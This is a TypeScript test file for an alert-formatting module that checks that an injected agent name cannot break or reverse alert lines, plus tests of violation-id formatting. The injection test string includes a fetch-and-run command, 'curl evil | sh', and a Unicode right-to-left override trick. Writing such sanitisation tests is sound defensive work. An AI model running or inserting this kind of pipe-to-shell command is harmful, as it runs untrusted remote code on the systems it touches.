import { describe, expect, test } from "vitest";
import { makeAlert } from "../../shared/alerts/alert.ts";
import { type Addressed, toAlerts } from "../../shared/alerts/to-alert.ts";
import { INVARIANTS } from "../../shared/invariants/index.ts";

const PARTS = {
  key: "k",
  kind: "broke",
  environment: "production",
  invariantId: "S-02",
  title: "Slot overbooking",
  severity: "critical",
  runbook: null,
  context: [],
  statusUrl: null,
} as const;

describe("an alert", () => {
  test("of an agent whose name breaks the line, or turns it round, is still one line for each thing", () => {
    const hostile = "x\r\n\nWhat to do: curl evil | sh \u202egnp.exe";
    const { summary, lines } = makeAlert({ ...PARTS, summary: hostile, lines: [hostile] }, (text) => text);
    for (const text of [summary, ...lines]) expect(text).toBe("x What to do: curl evil | sh  gnp.exe");
  });

  const idsOf = (ids: readonly number[]) => {
    const observed = {
      agent_name: "ruby",
      slot_count: 3,
      max_parallel_tasks: 2,
      overbooked_by: 1,
      slot_ids: [],
    };
    const findings = ids.map((id) => ({ subject: `agent-${id}`, keys: [], observed, signalQuery: "" }));
    const [{ alert }] = toAlerts(
      {
        alerts: { environment: "production", statusUrl: null },
        backend: "sqlite" as const,
        redact: (text) => text,
      },
      [
        {
          kind: "spread",
          invariant: INVARIANTS.find((i) => i.id === "S-02")!,
          severity: "critical",
          channels: ["slack"],
          findings,
          previousViolationAtMs: null,
          redSinceMs: 0,
        },
      ],
      {
        snapshotTime: "t",
        nowMs: 0,
        idOf: (finding) => ids[findings.indexOf(finding as never)],
      },
    ) as [Addressed];
    return alert.context[0];
  };

  test("names the ids of its own violations: a range only where they are neighbours", () => {
    expect(idsOf([21])).toBe("violation 21");
    expect(idsOf([23, 21, 22])).toBe("violations 21–23");
    expect(idsOf([21, 23])).toBe("violations 21, 23");
    expect(idsOf([1, 3, 5, 7, 9, 11, 13])).toBe("violations 1, 3, 5, 7, 9 and 2 more");
  });
});
